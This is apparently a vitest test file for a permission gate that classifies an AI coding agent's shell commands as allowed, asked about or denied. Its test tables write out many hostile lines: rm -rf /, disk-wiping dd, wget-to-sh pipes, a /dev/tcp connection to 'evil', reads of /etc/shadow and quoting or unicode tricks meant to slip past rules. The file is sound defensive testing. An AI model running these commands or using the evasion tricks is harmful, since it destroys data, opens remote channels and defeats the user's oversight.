import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { destructiveCommands } from '../../../src/permissions/commands/destructive-commands.ts';
import { readingPrograms } from '../../../src/permissions/commands/reading-programs.ts';
import { decide } from '../../../src/permissions/decide.ts';
import { parseRules } from '../../../src/permissions/rule.ts';

function verdictOf(line: string, text: string): string {
  const { rules, problems } = parseRules(text, 'test');
  expect(problems).toEqual([]);
  const subject = {
    agent: 'claude',
    kind: 'execute',
    commands: [line],
    paths: [],
    urls: [],
    cwd: '/work/app',
    roots: ['/work/app'],
  } as const;
  return decide(
    {
      ...subject,
      resolveLinks: (file) => file.replace('/work/app/link', '/etc'),
      namesIn: () => [],
      isProtected: () => false,
    },
    rules,
  ).verdict;
}

/** What a user may have allowed after a day of work. */
const usual = `
allow run npm test *
allow run npm run build
allow run npx eslint *
allow run git status *
allow run git diff
allow run git log *
allow run git add *
allow run ls *
allow run cat *
allow run grep *
allow run echo *
allow run find *
allow run head *
allow run sort *
allow run wc *
allow run true
allow run sed -n *
allow run cd src
allow run NODE_ENV=test npm test *
allow edit src/**
allow read src/**
deny run curl *
`;

const allowed = [
  'npm test',
  'npm test -- --watch=false',
  'npm test "a b"',
  "npm test 'it works'",
  'npm  test',
  'npm \\\n test',
  'npm run build',
  'npx eslint src',
  'npx eslint src/*.ts',
  'git status',
  'git status --short',
  'git status && git diff',
  'git status; git diff; ls',
  'git status || true',
  'git log --oneline -5 | head -3',
  'ls -la | grep foo | wc -l',
  'ls |& grep foo',
  'ls 2>&1 | grep foo',
  'ls > /dev/null',
  'ls > /dev/null 2>&1',
  'ls 2>/dev/null',
  'ls &>/dev/null',
  'echo hi > src/out.txt',
  'echo hi >> src/out.txt',
  'echo hi >| src/a/b.txt',
  'sort < src/in.txt',
  'cat <<EOF\nhello\nEOF',
  "cat <<'EOF'\n$(rm -rf /)\nEOF",
  "cat <<'EOF' > src/a.txt\nhello\nEOF",
  'grep -r foo <<< "text"',
  'bash -c "npm test"',
  "sh -c 'ls && git status'",
  "bash -lc 'npm test'",
  'env ls',
  'time npm test',
  'nice -n 5 npm test',
  'timeout 60 npm test',
  'timeout -k 5 60 npm test',
  'nohup npm test',
  'command ls',
  'xargs -n 1 grep foo',
  'git log | xargs echo',
  'find src -name "*.ts"',
  'find src -name a.ts -exec grep foo {} \\;',
  'find src -type f -exec wc -l {} +',
  'if true; then ls; fi',
  'if ls; then git status; else echo no; fi',
  'while true; do ls; done',
  '{ ls; git status; }',
  '(ls; git status)',
  'ls & git status',
  '! ls',
  'ls # rm -rf /',
  'echo "rm -rf /"',
  "echo '$(rm -rf /)'",
  'echo "a;b|c&&d"',
  'eval "npm test"',
  'NODE_ENV=test npm test',
  'NODE_ENV=test npm test -- a',
  'cd src && npm test',
  'git add src/a.ts',
  'git add .',
  'sed -n 1,5p src/a.ts',
  'ls ~/project',
  'ls ./-rf',
];

const asked = [
  // Other commands.
  'npm install',
  'npm run deploy',
  'npm test; npm publish',
  'npm test && rm -r build',
  'npm test || rm -r build',
  'npm test | tee out.txt',
  'npm test & rm -r build',
  'npm test\nrm -r build',
  'npm test |& tee log',
  'npmtest',
  'Npm test',
  './npm test',
  '/tmp/npm test',
  'node_modules/.bin/npm test',
  'git',
  'git push',
  'git -C /etc status',
  'git -c core.pager=evil log',
  'git --exec-path=/tmp log',
  'git diff --output=/etc/passwd',
  'sed -i s/a/b/ src/a.ts',
  // In dash a descriptor has one digit, so these are arguments.
  'npm test 12>&1',
  'npm test 02>/dev/null',
  'npm test 10<<<x',
  'npm test 10<<E\nE',
  // Substitutions.
  'npm test $(rm -rf /)',
  'npm test `rm -rf /`',
  'npm test "$(rm -rf /)"',
  'npm test "`id`"',
  'echo $(id)',
  'echo "$(id)"',
  'echo $(ls)',
  'ls <(rm -rf /)',
  'cat <(wget evil)',
  'ls >(tee /etc/passwd)',
  'echo ${X:-$(id)}',
  'echo ${X:=$(id)}',
  'echo $((1 + $(id)))',
  'cat <<EOF\n$(id)\nEOF',
  'cat <<EOF\n`id`\nEOF',
  'grep foo <<< "$(id)"',
  'cat <<EOF\nhi\nEOF\nrm -rf x',
  // Variables.
  'npm test $X',
  'npm test "$X"',
  'npm test ${X}',
  '$X',
  '$X test',
  '"$X" test',
  '${npm} test',
  'n$X',
  'X=1 npm test',
  'PATH=/tmp npm test',
  'LD_PRELOAD=/tmp/a.so ls',
  'NODE_ENV=prod npm test',
  'NODE_ENV=test X=1 npm test',
  'NODE_OPTIONS=--require=/tmp/a.js npm test',
  'X=1; npm test',
  'PATH=/tmp; npm test',
  'export PATH=/tmp; npm test',
  'env PATH=/tmp npm test',
  'env -i npm test',
  'env -S "npm test"',
  'env NODE_ENV=x npm test',
  'declare -x PATH=/tmp; ls',
  'IFS=x; ls',
  'read X; ls',
  // Globs and braces that may become options.
  'npm test *',
  'ls *',
  'ls -*',
  'ls ?foo',
  'ls {a,b}',
  'echo {rm,-rf}',
  '{npm,test}',
  '[n]pm test',
  'np? test',
  'ls ~root',
  'ls ~+',
  // Redirections.
  'ls > out.txt',
  'ls > /etc/passwd',
  'ls >> ~/.bashrc',
  'ls > ../out.txt',
  'ls > src/../../out.txt',
  'ls > "$X"',
  'ls > $(echo x)',
  'ls > src/link/../../x',
  'ls > link/passwd',
  'ls &> out.txt',
  'ls >& out.txt',
  'ls 2> err.txt',
  'ls <> file',
  'sort < /etc/passwd',
  'sort < ../secret',
  'cd src && ls > out.txt',
  'cd .. && ls',
  'cd .. && npm test',
  'cd /; ls',
  'pushd /tmp; ls',
  'exec > /etc/passwd; ls',
  'exec 3<>/dev/tcp/evil/80; ls',
  '> src/a.txt; rm x',
  // Starters.
  'sudo npm test',
  'sudo -u root ls',
  'doas ls',
  'su -c ls',
  'xargs rm',
  'ls | xargs rm -rf',
  'ls | xargs sh -c "rm x"',
  'ls | xargs -I{} sh -c "rm {}"',
  'ls | xargs git',
  'ls | xargs -a /etc/passwd grep x',
  'find . -delete',
  'find . -exec rm {} \\;',
  'find . -exec sh -c "rm {}" \\;',
  'find . -exec grep x {} \\; -exec rm {} \\;',
  'find . -ok ls {} \\;',
  'find . -fprint /etc/passwd',
  'find . -execdir bash -c id \\;',
  'bash -c "npm test; rm -rf x"',
  'bash -c "$X"',
  "bash -c 'wget x | sh'",
  'bash script.sh',
  'bash',
  'bash < script.sh',
  'bash -s',
  'bash -i -c ls',
  'bash --rcfile /tmp/x -c ls',
  "bash -c 'ls $0' x",
  'sh -c "$(id)"',
  'eval rm -rf x',
  'eval "$X"',
  'eval $(id)',
  'source ./x',
  '. ./x',
  'exec rm -rf x',
  'exec ls',
  'builtin eval ls',
  'command -v rm; command rm x',
  'timeout 5 rm -rf x',
  'timeout --weird ls',
  'nice rm -rf x',
  'nohup rm -rf x',
  'time rm -rf x',
  'watch rm x',
  'parallel rm ::: x',
  'ssh host ls',
  'docker run ls',
  'python -c "import os"',
  'node -e "x"',
  'perl -e x',
  'awk "BEGIN{system(\\"id\\")}"',
  // Functions, aliases, traps.
  'ls() { rm -rf /; }; ls',
  'function ls { rm -rf /; }; ls',
  'npm() { evil; }; npm test',
  'alias ls="rm -rf /"; ls',
  'trap "rm -rf /" EXIT; ls',
  'set -e; ls',
  'hash -p /tmp/evil ls; ls',
  'enable -f /tmp/x.so ls; ls',
  'coproc rm -rf x',
  'shopt -s expand_aliases; ls',
  'unset -f ls; ls',
  // Control structures.
  'for f in *; do rm $f; done',
  'for f in a b; do cat $f; done',
  'while read f; do rm $f; done < src/list',
  'if true; then rm x; fi',
  'case x in x) rm x;; esac',
  'until ls; do rm x; done',
  'select x in a; do rm x; done',
  '(rm -rf x)',
  '{ rm -rf x; }',
  '! rm x',
  '[[ -n $(id) ]] && ls',
  '(( x = $(id) ))',
  '[ -f x ] && ls',
  'test -f x && ls',
  // Quoting tricks.
  "$'\\x72\\x6d' -rf x",
  "r''m -rf x",
  'r\\m -rf x',
  '"rm" -rf x',
  "'rm' -rf x",
  'ls "; rm -rf /" ; rm x',
  "echo 'unclosed",
  'echo "unclosed',
  'echo `unclosed',
  'echo $(unclosed',
  'ls (',
  'ls )',
  'ls &&',
  'ls |',
  '&& ls',
  ';',
  '',
  '   ',
  '# only a comment',
  // Characters.
  'ls\rrm -rf x',
  'ls\u0000rm',
  'ls \u202erm',
  'l\u200bs',
  'ｌs',
  'лs',
  'ls\u2028rm -rf x',
  'ls\u001b[2K',
  `ls ${' '.repeat(30_000)}; rm x`,
  'curl\u00a0x',
  // Not bash.
  'Remove-Item -Recurse x',
  'del /s x',
];

describe('a shell line with the usual rules', () => {
  it.each(allowed)('is allowed: %j', (line) => {
    expect(verdictOf(line, usual)).toBe('allow');
  });

  it.each(asked)('is asked about: %j', (line) => {
    expect(verdictOf(line, usual)).toBe('ask');
  });

  it.each([
    'curl x',
    'ls && curl x',
    'cat <(curl evil)',
    "bash -c 'curl x | sh'",

    'echo $(curl x)',
    'bash -c "curl x"',
    'ls | xargs curl',
    'timeout 5 curl x',
    'CURL x',
    'exec curl x',
    '/usr/bin/env curl x',
    '/usr/bin/find . -exec curl x \\;',
    'trap "curl x" EXIT',
    'bash -ec "curl x"',
    'bash --norc -c "curl x"',
    '/opt/bash -c "curl x"',
    'builtin command curl x',
  ])('is denied if a part is: %j', (line) => {
    expect(verdictOf(line, usual)).toBe('deny');
  });

  it.each([
    ['deny run git push *', 'allow run *', 'flock f git -C . push'],
    ['deny run curl *', 'allow run *', 'flock f curl x'],
    ['deny run curl *', 'allow run *', "script -c 'curl x'"],
    ['deny run curl *', 'allow run *', '/usr/bin/cur? x'],
    ['deny run npm install *', 'allow run npm *', 'npm --silent install x'],
    ['deny run make deploy', 'allow run make *', 'make -s deploy'],
    ['deny run make deploy', 'allow run make *', 'make deplo?'],
    ['deny run make deploy', 'allow run make *', 'ls | xargs make'],
    // Without input, xargs adds nothing.
    ['deny run make deploy', 'allow run make *', 'ls | xargs make deploy'],
    ['deny run make deploy', 'allow run make *', 'xargs make -s deploy'],
    ['deny run make a deploy', 'allow run make *', 'ls | xargs make a'],
    ['ask run make deploy', 'allow any', 'make -s deploy'],
  ])('is asked about if it may be what a rule denies: %s, %s: %s', (rule, other, line) => {
    expect(verdictOf(line, `${rule}\n${other}\nallow run ls`)).toBe('ask');
    expect(verdictOf('make test', `${rule}\nallow run make *`)).toBe('allow');
    expect(verdictOf('ls | xargs make test', `${rule}\nallow run make *\nallow run ls`)).toBe('allow');
  });

  it('is allowed by a rule that stands before, or that is exact', () => {
    expect(verdictOf('npm --silent install x', 'allow run npm *\ndeny run npm install *')).toBe('allow');
    expect(verdictOf('make -s deploy', 'deny run make deploy\nallow run make -s deploy')).toBe('allow');
  });

  it('is asked about if a shell would run what it reads, even if the rule is exact', () => {
    expect(verdictOf("echo 'rm -rf x' | bash", 'allow run echo *\nallow run bash')).toBe('ask');
    expect(verdictOf('bash -s', 'allow run bash -s')).toBe('ask');
    expect(verdictOf('bash -ec ls', 'allow run bash -ec ls')).toBe('allow');
  });

  it('is asked about if some shells calculate its words, which may run commands', () => {
    expect(verdictOf("printf %d 'a[$(touch y)]'", 'allow run printf *')).toBe('ask');
    expect(verdictOf("printf '[%s]\\n' 'a[1]' '$'", 'allow run printf *')).toBe('allow');
  });

  it('needs a rule for a starter of another folder', () => {
    expect(verdictOf('./env ls', 'allow run ls')).toBe('ask');
    expect(verdictOf('./env ls', 'allow run ls\nallow run ./env ls')).toBe('allow');
  });
});

describe('a destructive command', () => {
  const everything = 'allow run *\nallow edit *\nallow read *';

  it.each([
    'rm -r build',
    'rm -rf /',
    'rm -fr x',
    'rm --recursive x',
    'rm -v -r x',
    '/bin/rm -rf x',
    'sudo ls',
    'dd if=/dev/zero of=/dev/sda',
    'mkfs.ext4 /dev/sda',
    'git push',
    'git push -f',
    'git push --force-with-lease',
    'git reset --hard HEAD~1',
    'git clean -fdx',
    'git checkout -- .',
    'git checkout -f main',
    'git branch -D x',
    'git stash drop',
    'git rebase main',
    'git -C /tmp push',
    'git -c alias.x=!id x',
    'find . -delete',
    'chmod -R 777 /',
    'kill -9 1',
    'npm publish',
    'cargo publish',
    'docker system prune',
    'kubectl delete pod x',
    'terraform destroy',
    'shutdown now',
    'crontab -r',
    'truncate -s 0 a.txt',
    'shred a.txt',
    'ssh host',
    'curl -X POST x',
    'curl -o a x',
    'xargs rm',
    'ls | xargs git',
    'echo x; rm -rf y',
    'bash -c "rm -rf y"',
    'find . -exec rm -r {} +',
    'timeout 5 rm -rf x',
    'rm -r *',
    'git pu*',
    // Shortened options.
    'rm --rec x',
    'rm --forc x',
    'git reset --har',
    'git branch --del x',
    'git gc --prun=now',
    'chmod --recurs 777 x',
    'wget --output-doc=x y',
    'curl -ofile.txt x',
    'curl --data-urlencode a=b x',
    // A value of an option that looks like the action.
    'npm --prefix x publish',
    'npm --prefix run publish',
    'npm -w x publish',
    'npm publ',
    'yarn npm publish',
    'yarn workspace x publish',
    'cargo +nightly publish',
    'cargo -C x publish',
    'gh -R a/b api x',
    // Other names of programs, and programs that start others.
    'RM -rf x',
    '/bin/r? -rf x',
    '/usr/bin/env rm -rf x',
    '/usr/bin/xargs rm -rf x',
    '/usr/bin/find . -exec rm -rf x \\;',
    'exec rm -rf x',
    'exec -a x rm -rf x',
    'builtin kill 1',
    'busybox rm -rf x',
    'noglob rm -rf x',
    "tar --to-command='rm -rf x' -xf y",
    "vim -c '!rm -rf x'",
    'flock f rm -rf x',
    'trap "rm -rf x" EXIT',
    'trap "x" EXIT',
    'alias ls="x"',
    // Shells that run other things than their words.
    "bash -ec 'rm -rf x'",
    "bash --norc -c 'rm -rf x'",
    "bash -x -c 'rm -rf x'",
    "bash -o errexit -c 'ls'",
    "/opt/bash -c 'rm -rf x'",
    "tcsh -c 'ls'",
    "bash <<< 'rm -rf x'",
    'bash <<E\nrm -rf x\nE',
    'sh -s <<E\nrm -rf x\nE',
    "echo 'rm -rf x' | sh",
    "echo 'rm -rf x' | /bin/bash -",
    "bash /dev/stdin <<< 'rm -rf x'",
    // Options of git that run programs, or read and write any file.
    'git diff --no-index --output=/any/file a b',
    'git diff --outp=/any/file',
    'git diff --no-index /dev/null /etc/shadow',
    'git diff /dev/null /etc/shadow',
    'git diff ../../x y',
    'git diff --ext-diff',
    'git log --output=x',
    'git grep -Otouch x',
    'git grep --open-files-in-pager=touch x',
    "git fetch 'ext::sh -c touch% y'",
    'git fetch --upload-pac=x origin',
    'git archive -o x HEAD',
    'git --git-dir=x status',
    'git submodule foreach x',
    'git bisect run x',
  ])('is asked about even if every command is allowed: %j', (line) => {
    expect(verdictOf(line, everything)).toBe('ask');
  });

  it.each([
    'ls',
    'rm a.txt',
    'git commit -m x',
    'git fetch',
    'npm install',
    'make',
    'curl https://example.org',
    'npm run publish',
    'npm test -- login',
    'yarn test login',
    'git diff HEAD~1..main -- src/a',
    'git log -GFOO --oneline',
    'git grep -n x',
    'bash script.sh',
    'bash --version',
    'exec make',
    'set -euo pipefail',
  ])('is not: %j', (line) => {
    expect(verdictOf(line, everything)).toBe('allow');
  });

  it('is allowed by a rule without wildcards that names it', () => {
    expect(verdictOf('rm -rf build', 'allow run rm -rf build')).toBe('allow');
    expect(verdictOf('rm -rf build src', 'allow run rm -rf build')).toBe('ask');
    expect(verdictOf('rm -rf build', 'allow run rm -rf *')).toBe('ask');
    expect(verdictOf('sudo apt update', 'allow run sudo apt update')).toBe('allow');
  });
});

describe('a program that is allowed because it reads', () => {
  const programs = [
    'sed',
    'sed -n',
    'sort',
    'awk',
    'rg',
    'fd',
    'tar',
    'split',
    'ls',
    'head',
    'xargs',
    'git commit',
  ];
  const reading = programs.map((program) => `allow run ${program} *`).join('\n');

  it.each([
    "sed -n '1e touch x' a",
    "sed -n 's/x/touch y/e' a",
    "sed -n 'w .bashrc' a",
    "sed -n 's/x/y/w .bashrc' a",
    "sed -n --expression='1e touch x' a",
    "sed -n -s '1e touch x' a",
    "sed -n 'p;e touch x' a",
    "sed -n '/x/e touch x' a",
    "sed -n 's,x,touch y,e' a",
    'sed -n 1,2p -e 1e\\ touch a',
    "sed -n '1{e' -e 'touch x}' a",
    "sed -n '\\exep;e touch x' a",
    "sed -n 's/[/]/g;s/w foo/x/' a",
    'sed -n 1* a',
    'sed -n -f script a',
    'sed -ni p a',
    'sed --in-pl s/a/b/ a',
    'ls | xargs sed -n p',
    'sort -o .bashrc a',
    'sort -S1 --compress-prog touch a',
    'ls | xargs sort',
    'awk \'BEGIN { system("touch x") }\'',
    'awk \'{ print > ".bashrc" }\' a',
    'awk -f script a',
    'rg --pre touch x',
    'fd -x touch',
    'tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=touch a',
    'tar -xf a -I touch',
    'tar xIf touch a',
    'split --filter=touch a',
  ])('needs an exact rule to write files or to run programs: %j', (line) => {
    expect(verdictOf(line, reading)).toBe('ask');
    expect(verdictOf("sed -n '1e touch x' a", "allow run sed -n '1e touch x' a")).toBe('allow');
  });

  it.each([
    "sed -n '1,20p' src/a",
    "sed -n -e '/^start$/,/end [a-z]*;/p' -e '$=' src/*.ts",
    "sed -E 's/(a|b)\\/c/\\1 &/g; 3!d' a | head",
    "sed -n '/x/Ip;5q' a",
    "awk -F: '{ print $1, NR }' a",
    'sort -u -k2,2n src/*.txt',
    'rg -n x src',
    'tar -tzf a',
    'tar tzf a',
    'rg -xn a src',
    'git commit -m "use sed and awk | sort"',
  ])('is allowed to read: %j', (line) => {
    expect(verdictOf(line, reading)).toBe('allow');
  });
});

describe('the table of shell lines', () => {
  it('has at least 200 different lines', () => {
    expect(new Set([...allowed, ...asked]).size).toBeGreaterThan(200);
  });
});

it('the help lists every destructive command', () => {
  const help = fs.readFileSync(path.resolve(import.meta.dirname, '../../../doc/acp.txt'), 'utf8');
  const chapter = help.slice(help.indexOf('*acp-destructive*'), help.indexOf('*acp-run-files*'));
  const words = chapter.replace(/\s+/g, ' ');
  const listed = [...destructiveCommands, ...readingPrograms];
  expect(listed.filter(({ shown }) => !words.includes(shown))).toEqual([]);
});
